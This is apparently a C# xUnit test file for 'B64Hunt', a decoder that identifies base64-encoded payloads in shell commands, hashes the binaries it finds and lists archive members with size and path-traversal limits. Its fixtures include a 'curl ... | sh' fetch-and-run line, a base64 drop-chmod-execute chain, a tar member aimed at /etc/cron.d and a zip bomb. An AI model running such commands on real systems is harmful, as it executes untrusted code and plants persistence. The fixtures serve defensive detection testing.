using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.Formats.Tar;
using System.IO;
using System.IO.Compression;
using System.Linq;
using System.Security.Cryptography;
using System.Text;
using B64Hunt.Decoding;
using B64Hunt.Model;
using Xunit;
using static B64Hunt.Tests.Decoding.Payloads;

namespace B64Hunt.Tests.Decoding
{
    /// <summary>What a binary payload is (FileType, Size, hashes), tar and zip members, and the archive bounds.</summary>
    public class DecoderBinaryTests
    {
        private const string Script = "#!/bin/sh\ncurl -s http://203.0.113.9/m | sh\n";

        private static byte[] Pe(bool plus, int machine, bool dll)
        {
            var d = new byte[512];
            d[0] = (byte)'M'; d[1] = (byte)'Z'; d[0x3c] = 0x80;
            d[0x80] = (byte)'P'; d[0x81] = (byte)'E';
            d[0x84] = (byte)machine; d[0x85] = (byte)(machine >> 8);
            if (dll) d[0x80 + 23] = 0x20;
            d[0x80 + 24] = 0x0b; d[0x80 + 25] = (byte)(plus ? 2 : 1);
            return d;
        }

        internal static byte[] Zip(params (string Name, byte[] Data)[] members)
        {
            var ms = new MemoryStream();
            using (var zip = new ZipArchive(ms, ZipArchiveMode.Create, leaveOpen: true))
                foreach (var (name, data) in members)
                    using (var s = zip.CreateEntry(name, CompressionLevel.Optimal).Open()) s.Write(data, 0, data.Length);
            return ms.ToArray();
        }

        private static string Sha256(byte[] d) => Convert.ToHexString(SHA256.HashData(d)).ToLowerInvariant();

        [Theory]
        [InlineData(true, true, 2, 0x3e, "ELF 64-bit LSB executable, x86-64")]
        [InlineData(false, true, 2, 0x28, "ELF 32-bit LSB executable, ARM")]
        [InlineData(true, true, 3, 0xb7, "ELF 64-bit LSB shared object, AArch64")]
        [InlineData(false, false, 2, 0x08, "ELF 32-bit MSB executable, MIPS")]
        [InlineData(false, true, 2, 0x03, "ELF 32-bit LSB executable, x86")]
        public void ElfPayloadSaysClassAndMachine(bool is64, bool little, int type, int machine, string expected)
        {
            byte[] elf = Elf(is64, little, type, machine);
            var payload = Single("echo " + B64(elf) + " | base64 -d > /tmp/.k && chmod +x /tmp/.k && /tmp/.k");
            Assert.True(payload.IsBinary);
            Assert.Equal(expected, payload.FileType);
            Assert.Equal(elf.Length, payload.Size);
            Assert.Equal(Sha256(elf), payload.Sha256);
            Assert.Equal(Convert.ToHexString(SHA1.HashData(elf)).ToLowerInvariant(), payload.Sha1);
            Assert.Equal(Convert.ToHexString(MD5.HashData(elf)).ToLowerInvariant(), payload.Md5);
        }

        [Theory]
        [InlineData(true, 0x8664, false, "PE32+ executable, x86-64")]
        [InlineData(false, 0x14c, true, "PE32 DLL, x86")]
        public void PePayloadSaysKindAndMachine(bool plus, int machine, bool dll, string expected)
        {
            var payload = Single("echo " + B64(Pe(plus, machine, dll)) + " | base64 -d > /tmp/a.exe");
            Assert.Equal(expected, payload.FileType);
        }

        [Fact]
        public void MachOAndOtherMagics()
        {
            var macho = new byte[64];
            macho[0] = 0xcf; macho[1] = 0xfa; macho[2] = 0xed; macho[3] = 0xfe;
            for (int i = 4; i < macho.Length; i++) macho[i] = (byte)(i * 13);
            Assert.Equal("Mach-O 64-bit", Single("echo " + B64(macho) + " | base64 -d > /tmp/m").FileType);
            Assert.Equal("python script", FileTypes.Describe(Utf8("#!/usr/bin/env python3\nimport os\n")));
            Assert.Equal("shell script", FileTypes.Describe(Utf8("#!/bin/bash\nid\n")));
            Assert.Equal("perl script", FileTypes.Describe(Utf8("#!/usr/bin/perl\nprint 1\n")));
            Assert.Equal("gzip", FileTypes.Describe(Gzip(Utf8(Command))));
            Assert.Equal("data", FileTypes.Describe(RandomBytes(64, 5)));
        }

        [Fact]
        public void TextPayloadsHaveNoFileTypeOrHashes()
        {
            var payload = Single("echo " + B64(Command) + " | base64 -d | bash");
            Assert.Equal(string.Empty, payload.FileType);
            Assert.Null(payload.Size);
            Assert.Equal(string.Empty, payload.Sha256);
        }

        [Fact]
        public void GzippedTarIsListedAndItsTextMembersAreEvents()
        {
            byte[] elf = Elf(true, true, 2, 0x3e);
            byte[] tar = Tar(("kinsing", elf), ("run.sh", Utf8(Script)));
            var problems = new List<Problem>();
            var results = new PayloadDecoder().Decode("echo " + B64(Gzip(tar)) + " | base64 -d | tar xz -C /tmp", problems);

            var archive = results[0];
            Assert.Equal(new[] { "base64", "gzip", "tar" }, archive.Chain);
            Assert.True(archive.IsBinary);
            Assert.Equal("tar", archive.FileType);
            Assert.Equal(Sha256(tar), archive.Sha256);
            Assert.Equal(new[] { "kinsing", "run.sh" }, archive.Members.Select(m => m.Name));
            var binary = archive.Members[0];
            Assert.Equal("ELF 64-bit LSB executable, x86-64", binary.FileType);
            Assert.Equal(elf.Length, binary.Size);
            Assert.Equal(Sha256(elf), binary.Sha256);
            Assert.False(binary.IsText);
            Assert.StartsWith("tar archive, 2 members", archive.DecodedText);
            Assert.DoesNotContain("\\x00", archive.DecodedText); // the listing, never the header bytes

            var member = Assert.Single(results, r => r.MemberName == "run.sh");
            Assert.Equal(1, member.Depth);
            Assert.Equal(archive.EncodedText, member.ParentEncodedText);
            Assert.Equal(Script, member.DecodedText);
            Assert.Equal("shell script", member.FileType);
            Assert.Equal(Sha256(Utf8(Script)), member.Sha256);
            Assert.Empty(problems);
        }

        [Fact]
        public void ZipMembersAreListedWithHashes()
        {
            byte[] elf = Elf(true, true, 2, 0x3e);
            byte[] zip = Zip(("payload/a.py", Utf8("import os;os.system('id')\n")), ("bin/x", elf));
            var results = new PayloadDecoder().Decode("echo " + B64(zip) + " | base64 -d > /tmp/p.zip && unzip -o /tmp/p.zip");
            var archive = results[0];
            Assert.Equal(new[] { "base64", "zip" }, archive.Chain);
            Assert.Equal(new[] { "payload/a.py", "bin/x" }, archive.Members.Select(m => m.Name));
            Assert.Equal(Sha256(elf), archive.Members[1].Sha256);
            Assert.Equal("ELF 64-bit LSB executable, x86-64", archive.Members[1].FileType);
            var text = Assert.Single(results, r => r.MemberName == "payload/a.py");
            Assert.Equal("import os;os.system('id')\n", text.DecodedText);
        }

        [Fact]
        public void PathTraversalMemberIsFlaggedAndWarned()
        {
            byte[] tar = Tar(("../../etc/cron.d/x", Utf8("* * * * * root /tmp/k\n")), ("ok.txt", Utf8("fine\n")));
            var problems = new List<Problem>();
            var archive = new PayloadDecoder().Decode("echo " + B64(Gzip(tar)) + " | base64 -d | tar xzP -C /", problems)[0];
            Assert.True(archive.Members[0].IsUnsafePath);
            Assert.False(archive.Members[1].IsUnsafePath);
            Assert.Contains(problems, p => p.ErrorId == "ArchiveUnsafePath" && p.Message.Contains("../../etc/cron.d/x"));
        }

        [Fact]
        public void TooManyMembersAreCutWithAWarning()
        {
            var members = Enumerable.Range(0, ArchiveReader.MaxMembers + 40).Select(i => ("f" + i, new byte[] { (byte)'a', (byte)'\n' })).ToArray();
            var problems = new List<Problem>();
            var archive = new PayloadDecoder().Decode("echo " + B64(Gzip(Tar(members))) + " | base64 -d | tar xz", problems)[0];
            Assert.Equal(ArchiveReader.MaxMembers, archive.Members.Count);
            Assert.Contains(problems, p => p.ErrorId == "ArchiveLimitExceeded");
        }

        [Fact]
        public void ZipBombIsCutAtTheSizeLimit()
        {
            byte[] zeros = new byte[64 * 1024 * 1024];
            byte[] bomb = Zip(("a.bin", zeros), ("b.bin", zeros));
            Assert.True(bomb.Length < 200_000);
            var problems = new List<Problem>();
            var watch = Stopwatch.StartNew();
            var results = new PayloadDecoder().Decode("echo " + B64(bomb) + " | base64 -d > /tmp/z.zip", problems);
            watch.Stop();
            var archive = results[0];
            Assert.Equal(2, archive.Members.Count);
            Assert.All(archive.Members, m => Assert.True(m.IsTruncated));
            Assert.All(archive.Members, m => Assert.Equal(string.Empty, m.Sha256)); // a hash of a prefix would mislead
            Assert.Equal(zeros.Length, archive.Members[0].Size);
            Assert.Contains(problems, p => p.ErrorId == "ArchiveLimitExceeded");
            Assert.True(watch.Elapsed < TimeSpan.FromSeconds(10), watch.Elapsed.ToString());
        }

        [Fact]
        public void CorruptTarHeaderStopsTheListingWithAWarning()
        {
            byte[] tar = Tar(("a.sh", Utf8("id\n")), ("b.sh", Utf8("whoami\n")));
            // Break the second header's checksum.
            int second = 512 * 4; // pax header + data, then the first member's... find it instead
            for (int i = 512; i < tar.Length - 512; i += 512)
                if (tar[i + 257] == 'u' && Encoding.ASCII.GetString(tar, i, 100).TrimEnd('\0').EndsWith("b.sh")) { second = i; break; }
            tar[second + 10] ^= 0x20;
            var problems = new List<Problem>();
            var archive = new PayloadDecoder().Decode("echo " + B64(Gzip(tar)) + " | base64 -d | tar xz", problems)[0];
            Assert.Equal(new[] { "a.sh" }, archive.Members.Select(m => m.Name));
            Assert.Contains(problems, p => p.ErrorId == "ArchiveCorrupt");
        }

        [Fact]
        public void BinaryNotAnArchiveIsNotListed()
        {
            // "ustar" at the right place but a wrong checksum: not a tar.
            var fake = RandomBytes(1024, 9);
            Encoding.ASCII.GetBytes("ustar").CopyTo(fake, 257);
            Assert.False(ArchiveReader.IsTar(fake));
        }
    }
}
